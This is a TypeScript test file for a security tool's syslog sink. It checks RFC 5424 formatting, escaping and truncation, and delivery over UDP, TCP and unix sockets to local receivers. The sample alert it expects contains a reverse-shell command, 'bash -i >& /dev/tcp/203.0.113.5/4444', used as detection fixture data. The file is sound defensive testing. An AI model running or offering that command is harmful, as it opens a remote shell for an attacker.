// Syslog with real receivers on 127.0.0.1: a UDP socket, a TCP server and a unix stream socket
// created here; each received frame is parsed against RFC 5424 by an independent parser.

import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { escapeParamValue, formatRfc5424, msgId, priority, type Rfc5424Options } from "../../src/outputs/rfc5424.js";
import { SyslogSink } from "../../src/outputs/syslog.js";
import { makeAlert, SIGMA_ID, until } from "./alerts.js";
import { parseRfc5424, sdParams, splitOctetCounted } from "./rfc5424-parse.js";

const FORMAT: Rfc5424Options = { facility: "local0", hostname: "host-a", appName: "hv", procId: "4242", sdId: "hv@32473", maxBytes: 2048 };
const NASTY = 'say "hi" \\ then ] and ]]';

const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

describe("RFC 5424 formatting", () => {
  it("computes PRI from facility and the severity mapping", () => {
    expect(priority("local0", "critical")).toBe(16 * 8 + 2);
    expect(priority("local0", "high")).toBe(131);
    expect(priority("local0", "medium")).toBe(132);
    expect(priority("local0", "low")).toBe(133);
    expect(priority("local0", "informational")).toBe(134);
    expect(priority("authpriv", "critical")).toBe(82);
    const parsed = parseRfc5424(formatRfc5424(makeAlert({ severity: "medium" }), { ...FORMAT, facility: "authpriv" }));
    expect(parsed.pri).toBe(10 * 8 + 4);
  });

  it("writes header, structured data and message", () => {
    const parsed = parseRfc5424(formatRfc5424(makeAlert(), FORMAT));
    expect(parsed).toMatchObject({ version: 1, timestamp: "2025-01-01T00:00:05.000Z", hostname: "host-a", appName: "hv", procId: "4242" });
    // A UUID is 36 characters, MSGID at most 32: the dashes go.
    expect(parsed.msgId).toBe(SIGMA_ID.replace(/-/g, ""));
    expect(parsed.sd[0]?.id).toBe("hv@32473");
    expect(sdParams(parsed)).toEqual({
      rule_id: SIGMA_ID,
      severity: "high",
      count: "3",
      entity_kind: "vm",
      entity_id: "web-1",
      vm: "web-1",
      vm_uuid: "00000000-0000-0000-0000-000000000001",
      mitre: "T1059.004",
    });
    expect(parsed.msg.toString()).toBe("Reverse shell from a guest: bash -i >& /dev/tcp/203.0.113.5/4444");
  });

  it("escapes \" \\ ] in PARAM-VALUE and keeps the values intact", () => {
    expect(escapeParamValue(NASTY)).toBe('say \\"hi\\" \\\\ then \\] and \\]\\]');
    const parsed = parseRfc5424(formatRfc5424(makeAlert({ entity: { kind: "user", id: NASTY }, vm: { name: "a]b\"c\\" } }), FORMAT));
    expect(sdParams(parsed).entity_id).toBe(NASTY);
    expect(sdParams(parsed).vm).toBe('a]b"c\\');
  });

  it("keeps short ids as MSGID and cuts long ones; header fields lose spaces", () => {
    expect(msgId("intel:feodo")).toBe("intel:feodo");
    const parsed = parseRfc5424(formatRfc5424(makeAlert({ rule: { id: "x".repeat(40), title: "t", source: "s" } }), { ...FORMAT, hostname: "bad host" }));
    expect(parsed.msgId).toBe("x".repeat(32));
    expect(sdParams(parsed).rule_id).toBe("x".repeat(40));
    expect(parsed.hostname).toBe("bad_host");
  });

  it("puts a BOM before non-ASCII text only, and makes the message one line", () => {
    const ascii = parseRfc5424(formatRfc5424(makeAlert({ summary: "line1\nline2" }), FORMAT));
    expect(ascii.msg.toString()).toBe("Reverse shell from a guest: line1 line2");
    const utf8 = parseRfc5424(formatRfc5424(makeAlert({ summary: "Grüße" }), FORMAT));
    expect([...utf8.msg.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(utf8.msg.subarray(3).toString()).toBe("Reverse shell from a guest: Grüße");
  });

  it("truncates to maxBytes without cutting a UTF-8 character", () => {
    for (const max of [480, 481, 482, 600]) {
      const frame = formatRfc5424(makeAlert({ summary: "é".repeat(2000) }), { ...FORMAT, maxBytes: max });
      expect(frame.length).toBeLessThanOrEqual(max);
      expect(frame.length).toBeGreaterThan(max - 2);
      const parsed = parseRfc5424(frame);
      expect(parsed.msg.toString()).not.toContain("\ufffd");
      expect(sdParams(parsed).rule_id).toBe(SIGMA_ID);
    }
    // A huge value in one SD param is capped, so the others still fit.
    const parsed = parseRfc5424(formatRfc5424(makeAlert({ entity: { kind: "process", id: "a".repeat(5000) } }), FORMAT));
    expect(sdParams(parsed).entity_id).toHaveLength(256);
    expect(sdParams(parsed).vm).toBe("web-1");
  });
});

async function udpReceiver(): Promise<{ port: number; messages: Buffer[] }> {
  const socket: UdpSocket = createSocket("udp4");
  const messages: Buffer[] = [];
  socket.on("message", (msg) => messages.push(msg));
  await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
  cleanups.push(() => new Promise((resolve) => socket.close(() => resolve())));
  return { port: socket.address().port, messages };
}

/** A stream receiver: everything received, per connection. */
async function streamReceiver(listen: { port: 0; host: "127.0.0.1" } | { path: string }): Promise<{ server: Server; port: number; conns: Array<{ socket: Socket; data: Buffer }> }> {
  const conns: Array<{ socket: Socket; data: Buffer }> = [];
  const server = createServer((socket) => {
    const conn = { socket, data: Buffer.alloc(0) };
    conns.push(conn);
    socket.on("data", (chunk) => (conn.data = Buffer.concat([conn.data, chunk])));
    socket.on("error", () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(listen, resolve));
  cleanups.push(
    () =>
      new Promise((resolve) => {
        for (const c of conns) c.socket.destroy();
        server.close(() => resolve());
      }),
  );
  const address = server.address();
  return { server, port: typeof address === "object" && address ? address.port : 0, conns };
}

function sink(target: ConstructorParameters<typeof SyslogSink>[0]["target"], extra: Partial<ConstructorParameters<typeof SyslogSink>[0]> = {}): SyslogSink {
  const s = new SyslogSink({ target, hostname: "host-a", ...extra });
  cleanups.push(() => s.close());
  return s;
}

describe("syslog over UDP", () => {
  it("sends one RFC 5424 datagram per alert", async () => {
    const rx = await udpReceiver();
    const s = sink({ transport: "udp", host: "127.0.0.1", port: rx.port });
    await s.send(makeAlert({ severity: "critical" }));
    await s.send(makeAlert({ severity: "low", entity: { kind: "ip", id: NASTY } }));
    await s.flush();
    await until(() => rx.messages.length === 2, 2000, "two datagrams");
    const [a, b] = rx.messages.map(parseRfc5424);
    expect(a?.pri).toBe(130);
    expect(b?.pri).toBe(133);
    expect(a?.appName).toBe("hv");
    expect(a?.procId).toBe(String(process.pid));
    expect(b && sdParams(b).entity_id).toBe(NASTY);
    expect(s.stats()).toEqual({ sent: 2, failed: 0, dropped: 0, queued: 0, errors: 0 });
  });

  it("keeps each datagram within maxMessageBytes", async () => {
    const rx = await udpReceiver();
    const s = sink({ transport: "udp", host: "127.0.0.1", port: rx.port }, { maxMessageBytes: 480 });
    await s.send(makeAlert({ summary: "x".repeat(10_000) }));
    await s.flush();
    await until(() => rx.messages.length === 1, 2000, "a datagram");
    expect(rx.messages[0]?.length).toBe(480);
    expect(parseRfc5424(rx.messages[0] as Buffer).msg.toString()).toMatch(/^Reverse shell from a guest: x+$/);
  });
});

describe("syslog over TCP", () => {
  it("frames messages with octet counting, also messages that contained newlines", async () => {
    const rx = await streamReceiver({ port: 0, host: "127.0.0.1" });
    const s = sink({ transport: "tcp", host: "127.0.0.1", port: rx.port, framing: "octet-counting" });
    for (let i = 0; i < 5; i++) await s.send(makeAlert({ count: i + 1, summary: `line ${i}\nsecond line`, vm: { name: `vm]${i}` } }));
    await s.flush();
    await until(() => splitOctetCounted(rx.conns[0]?.data ?? Buffer.alloc(0)).frames.length === 5, 2000, "five frames");
    const { frames, rest } = splitOctetCounted(rx.conns[0]?.data as Buffer);
    expect(rest.length).toBe(0);
    expect(rx.conns).toHaveLength(1); // one connection for all
    frames.forEach((frame, i) => {
      const parsed = parseRfc5424(frame);
      expect(parsed.pri).toBe(131);
      expect(sdParams(parsed)).toMatchObject({ count: String(i + 1), vm: `vm]${i}` });
      expect(parsed.msg.toString()).toBe(`Reverse shell from a guest: line ${i} second line`);
    });
    expect(s.stats()).toEqual({ sent: 5, failed: 0, dropped: 0, queued: 0, errors: 0 });
  });

  it("reconnects after the receiver drops the connection", async () => {
    const rx = await streamReceiver({ port: 0, host: "127.0.0.1" });
    const s = sink({ transport: "tcp", host: "127.0.0.1", port: rx.port, framing: "octet-counting" }, { delivery: { retries: 3, backoffMs: 20 } });
    await s.send(makeAlert({ count: 1 }));
    await until(() => rx.conns.length === 1 && rx.conns[0]!.data.length > 0, 2000, "first message");
    rx.conns[0]?.socket.destroy();
    // TCP syslog has no acknowledgements: a message written into the dying connection may be
    // lost unseen (documented). Keep sending until one arrives on a new connection.
    for (let i = 2; i < 50 && rx.conns.length < 2; i++) {
      await s.send(makeAlert({ count: i }));
      await s.flush();
      await new Promise((r) => setTimeout(r, 20));
    }
    await until(() => (rx.conns[1]?.data.length ?? 0) > 0, 2000, "a message on a second connection");
    const frame = splitOctetCounted(rx.conns[1]!.data).frames[0] as Buffer;
    expect(parseRfc5424(frame).appName).toBe("hv");
  });

  it("counts failures when nobody listens, without throwing", async () => {
    const rx = await streamReceiver({ port: 0, host: "127.0.0.1" });
    const port = rx.port;
    await new Promise<void>((resolve) => rx.server.close(() => resolve()));
    const s = sink({ transport: "tcp", host: "127.0.0.1", port, framing: "octet-counting" }, { delivery: { retries: 2, backoffMs: 10 } });
    await expect(s.send(makeAlert())).resolves.toBeUndefined();
    await s.flush();
    expect(s.stats()).toMatchObject({ sent: 0, failed: 1, dropped: 0 });
    expect(s.stats().lastError).toMatch(/ECONNREFUSED/);
  });
});

describe("syslog over a unix stream socket", () => {
  it("delivers LF-framed messages", async () => {
    const dir = await mkdtemp(join(tmpdir(), "hv-syslog-"));
    cleanups.push(() => rm(dir, { recursive: true, force: true }));
    const path = join(dir, "log.sock");
    const rx = await streamReceiver({ path });
    const s = sink({ transport: "unix", path, framing: "lf" }, { facility: "authpriv" });
    await s.send(makeAlert({ summary: "a\nb" }));
    await s.send(makeAlert({ severity: "informational" }));
    await s.flush();
    await until(() => (rx.conns[0]?.data.toString().split("\n").length ?? 0) === 3, 2000, "two lines");
    const lines = rx.conns[0]!.data.toString().split("\n");
    expect(lines[2]).toBe("");
    expect(parseRfc5424(Buffer.from(lines[0] as string)).pri).toBe(83);
    expect(parseRfc5424(Buffer.from(lines[1] as string)).pri).toBe(86);
  });

  it("reports a missing socket as a failure", async () => {
    const s = sink({ transport: "unix", path: "/nonexistent/hv.sock", framing: "lf" }, { delivery: { retries: 0 } });
    await s.send(makeAlert());
    await s.flush();
    expect(s.stats()).toMatchObject({ sent: 0, failed: 1 });
    expect(s.stats().lastError).toMatch(/ENOENT/);
  });
});
